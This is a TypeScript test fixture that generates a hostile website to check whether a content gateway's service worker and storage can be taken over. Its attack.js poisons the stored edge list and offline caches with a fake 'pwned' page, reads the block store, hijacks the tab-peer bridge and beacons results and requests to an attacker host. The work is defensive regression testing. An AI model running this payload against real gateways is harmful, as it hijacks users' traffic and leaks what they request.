import { EDGES_CHANGED_MESSAGE } from '../../src/lib/edge-status.ts'
import { EDGE_DB_NAME } from '../../src/node/edge-store.ts'
import { BLOCKS } from '../../src/node/local-store-schema.ts'
import { BRIDGE_REGISTER, BRIDGE_SOLICIT } from '../../src/lib/peer-bridge.ts'

/** What the hostile site's script managed, as it reports it (in `#report` and to the attacker's `/report`). */
export interface TakeoverReport {
  origin: string
  /** Its edge was written into the origin's stored edge list */
  edgeWritten: boolean
  /** EDGES_CHANGED was posted to a controlling SW */
  edgesChangedPosted: boolean
  /** Keys it read from the origin's block store (`/` + base32 multihash) */
  blockKeys: string[]
  /** Registrations it posted to a controlling SW as its tab peer */
  bridgeRegistrations: number
  /** Cache entries it overwrote: `<cache name> <url>` */
  cachesWritten: string[]
  errors: string[]
}

/**
 * Pages the hostile site's script keeps re-registering as the SW's tab peer
 * (every REGISTER_EVERY_MS), so that it is the newest registration whatever
 * the gateway page's own peer does; bounded so the page goes quiet.
 */
const REGISTER_EVERY_MS = 300
const REGISTER_TIMES = 200

/**
 * A published site that tries every takeover of the gateway issue 12 found
 * (#5, #10a): it writes its own edge into the stored edge list and tells the
 * SW; it reads the block store; it registers itself as the SW's tab peer and
 * reports every block request it gets; it overwrites the SW's offline copies
 * of edgeway.json and of the gateway page. Findings go into `#report` and to
 * `<attacker>/report`; a `want` from the SW goes to `<attacker>/want`. With
 * scripts off it still loads `<attacker>/noscript`, so "it did not run" is
 * something seen, not an absence.
 */
export function hostileSiteFiles (attacker: string): Record<string, string> {
  return {
    'index.html': `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><title>hostile</title>
<link rel="stylesheet" href="style.css">
<h1>a hostile site</h1><img id="pixel" src="pixel.svg" alt=""><noscript><img src="${attacker}/noscript" alt=""></noscript>
<pre id="report">not run</pre><script src="attack.js"></script>`,
    // what a site needs besides script: it must still render, its subresources coming through the SW
    'style.css': 'h1 { color: rgb(1, 2, 3) }',
    'pixel.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>',
    'attack.js': attackScript(attacker)
  }
}

function attackScript (attacker: string): string {
  const names = { attacker, EDGES_CHANGED_MESSAGE, EDGE_DB_NAME, BLOCKS, BRIDGE_REGISTER, BRIDGE_SOLICIT, REGISTER_EVERY_MS, REGISTER_TIMES }
  return `const N = ${JSON.stringify(names)}
const report = { origin: location.origin, edgeWritten: false, edgesChangedPosted: false, blockKeys: [], bridgeRegistrations: 0, cachesWritten: [], errors: [] }
const done = (r) => new Promise((resolve, reject) => { r.onsuccess = () => resolve(r.result); r.onerror = () => reject(r.error) })
const beacon = (path, body) => fetch(N.attacker + path, { method: 'POST', mode: 'no-cors', body: JSON.stringify(body) }).catch(() => {})
const attempt = async (what, fn) => { try { await fn() } catch (err) { report.errors.push(what + ': ' + (err && err.message || err)) } }
const attackerEdge = [{ multiaddrs: [], http: N.attacker }]

async function openWithStores (name, stores) {
  let db = await done(indexedDB.open(name))
  if (stores.every(s => db.objectStoreNames.contains(s))) return db
  const version = db.version + 1
  db.close()
  const open = indexedDB.open(name, version)
  open.onupgradeneeded = () => { for (const s of stores) if (!open.result.objectStoreNames.contains(s)) open.result.createObjectStore(s) }
  return done(open)
}

async function controller () {
  await navigator.serviceWorker.ready
  return navigator.serviceWorker.controller
}

async function main () {
  await attempt('edges', async () => {
    const db = await openWithStores(N.EDGE_DB_NAME, ['health', 'edge-lists'])
    const tx = db.transaction('edge-lists', 'readwrite')
    tx.objectStore('edge-lists').put(attackerEdge, 'user')
    await new Promise((resolve, reject) => { tx.oncomplete = resolve; tx.onerror = () => reject(tx.error) })
    db.close()
    report.edgeWritten = true
    const sw = await controller()
    if (sw != null) { sw.postMessage({ type: N.EDGES_CHANGED_MESSAGE }); report.edgesChangedPosted = true }
  })
  await attempt('blocks', async () => {
    const db = await done(indexedDB.open(N.BLOCKS))
    if (db.objectStoreNames.contains(N.BLOCKS)) report.blockKeys = (await done(db.transaction(N.BLOCKS).objectStore(N.BLOCKS).getAllKeys(null, 10000))).map(String)
    db.close()
  })
  await attempt('bridge', async () => {
    const register = async () => {
      const sw = await controller()
      if (sw == null) return
      const channel = new MessageChannel()
      channel.port1.onmessage = (event) => {
        const want = event.data
        if (want == null || want.type !== 'want') return
        void beacon('/want', want)
        channel.port1.postMessage({ type: 'missing', id: want.id, reason: 'attacker' })
      }
      sw.postMessage({ type: N.BRIDGE_REGISTER, peerId: '12D3KooWAttackerAttackerAttackerAttackerAttacker' }, [channel.port2])
      report.bridgeRegistrations++
    }
    navigator.serviceWorker.addEventListener('message', (event) => { if (event.data && event.data.type === N.BRIDGE_SOLICIT) void register() })
    await register()
    let times = 0
    const timer = setInterval(() => { if (++times >= N.REGISTER_TIMES) clearInterval(timer); void register() }, N.REGISTER_EVERY_MS)
  })
  await attempt('caches', async () => {
    const fakeConfig = JSON.stringify({ edges: attackerEdge, allowLocal: true, allowInsecure: true })
    const config = await caches.open('edgeway-config-v1')
    for (const path of ['/edgeway.json', '/_edgeway/edgeway.json']) {
      await config.put(location.origin + path, new Response(fakeConfig, { headers: { 'Content-Type': 'application/json' } }))
      report.cachesWritten.push('edgeway-config-v1 ' + path)
    }
    const pageCaches = (await caches.keys()).filter(name => name.startsWith('edgeway-page-'))
    for (const name of pageCaches.length > 0 ? pageCaches : ['edgeway-page-pwned']) {
      const cache = await caches.open(name)
      await cache.put('/index.html', new Response('<!doctype html><title>pwned</title><h1 data-testid="pwned">pwned</h1>', { headers: { 'Content-Type': 'text/html' } }))
      report.cachesWritten.push(name + ' /index.html')
    }
  })
  document.getElementById('report').textContent = JSON.stringify(report)
  document.getElementById('report').dataset.done = 'true'
  await beacon('/report', report)
}
void main()
`
}
